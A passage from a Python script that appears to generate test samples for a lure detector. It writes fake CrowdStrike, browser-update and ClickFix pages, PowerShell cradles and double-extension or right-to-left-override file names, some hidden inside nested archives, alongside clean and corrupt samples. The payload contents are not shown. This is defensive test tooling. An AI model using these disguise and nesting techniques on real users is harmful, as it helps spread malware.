    s["lures/crowdstrike_update_page.html"] = lf(CS_UPDATE_PAGE)
    s["lures/browser_update.html"] = lf(BROWSER_UPDATE_PAGE)
    s["lures/support_notice.eml"] = crlf(SUPPORT_EML)
    # hotfix zip inside another zip inside a .gz: .gz > zip > zip > members
    bundle = make_zip([("crowdstrike-hotfix.zip", hotfix_zip),
                       ("LEEME.txt", lf("Paquete de recuperacion.\n"))])
    s["lures/nested/hotfix_bundle.zip.gz"] = make_gzip("hotfix_bundle.zip", bundle)
    # lure three archive levels below the file given: deep.zip > l2.zip > l3.zip > fix.bat
    level3 = make_zip([("crowdstrike_fix.bat", crlf(FIX_BAT))])
    level2 = make_zip([("level3.zip", level3)])
    s["lures/nested/deep_lure.zip"] = make_zip([("level2.zip", level2)])

    # rule pack extension (see the samples/README.md table)
    s["lures/falcon_sensor_update.wxs"] = crlf(FALCON_WXS)
    s["lures/falcon_crash_reporter_setup.iss"] = crlf(CRASH_REPORTER_ISS)
    s["lures/falcon_sensor_update.hta"] = crlf(FALCON_HTA)
    s["lures/crash_reporter_site/index.html"] = lf(CRASH_REPORTER_PAGE)
    s["lures/crash_reporter_site/jquery-3.7.1.min.js"] = lf(FAKE_JQUERY)
    s["lures/crowdstrike_update_wiper.eml"] = crlf(WIPER_EML)
    s["lures/falcon_hotfix_attachment.eml"] = crlf(ATTACH_EML)
    s["lures/clickfix_captcha.html"] = lf(CLICKFIX_CAPTCHA)
    s["lures/clickfix_fix_it.html"] = lf(CLICKFIX_FIXIT)
    s["lures/edge_update_clearfake.html"] = lf(CLEARFAKE_PAGE)
    s["lures/Chrome.Update.zip"] = make_zip([("Chrome.Update.c8f1e2.js", crlf(SOCGHOLISH_JS))])
    s["lures/invoice.docx.js"] = crlf(DOUBLE_EXT_JS)
    s["lures/double_extension.zip"] = make_zip([
        ("Invoice_2024-07.pdf.exe", DOUBLE_EXT_TEXT.encode("ascii")),
        ("Falcon_Sensor_Update.docx.js", crlf(DOUBLE_EXT_JS)),
        ("recovery_steps_\u202efdp.scr", DOUBLE_EXT_TEXT.encode("ascii")),
    ])
    s["lures/teams_fix_cradle.ps1"] = crlf(TEAMS_FIX_PS1)
    s["lures/zoom_repair_bits.ps1"] = crlf(ZOOM_REPAIR_PS1)
    s["lures/outlook_fix_encoded.cmd"] = crlf(OUTLOOK_FIX_CMD)
    s["lures/printer_fix_mshta.bat"] = crlf(PRINTER_FIX_BAT)
    s["clean/crowdstrike_customer_notice.eml"] = crlf(CS_NOTICE_EML)
    s["clean/windows_shortcuts.html"] = lf(SHORTCUTS_HTML)
    s["clean/clickfix_awareness.txt"] = lf(CLICKFIX_AWARENESS)
    s["clean/browser_update_help.html"] = lf(BROWSER_HELP_HTML)
    s["clean/installer_oneliners.txt"] = lf(INSTALLER_DOCS)
    s["clean/report.final.pdf"] = MINIMAL_PDF
    s["clean/ordinary_names.zip"] = make_zip([
        ("archive.tar.gz", make_gzip("archive.tar", lf(f"Not really a tar.\n({MARK})\n"))),
        ("report.final.pdf", MINIMAL_PDF),
        ("photo.2024.07.jpg.txt", lf("Caption for the team photo.\n")),
        ("lib.min.js", lf("/* minified helper */ function add(a,b){return a+b}\n")),
        ("notes.v1.2.txt", lf(f"Version notes.\n({MARK})\n")),
    ])

    # bad
    s["bad/empty.bin"] = b""
    s["bad/encrypted.zip"] = make_zipcrypto_zip(ENCRYPTED_MEMBERS, ZIP_PASSWORD)
    full = make_zip(TRUNC_ZIP_MEMBERS, deflate=False)
    s["bad/truncated.zip"] = full[: len(full) // 2]
    good_gz = make_gzip("notes.txt", lf(("Corrupt gzip sample. " * 30) + f"\n({MARK})\n"))
    # keep the header and the first deflate bytes, then garbage: a corrupt stream
    s["bad/corrupt.gz"] = good_gz[:40] + b"\xff\xfe\xfd\xfc" * 8
    return s


def main(argv: list[str] | None = None) -> int:
    return sampleio.main(build, HERE, __doc__ or "", argv)


if __name__ == "__main__":
    sys.exit(main())
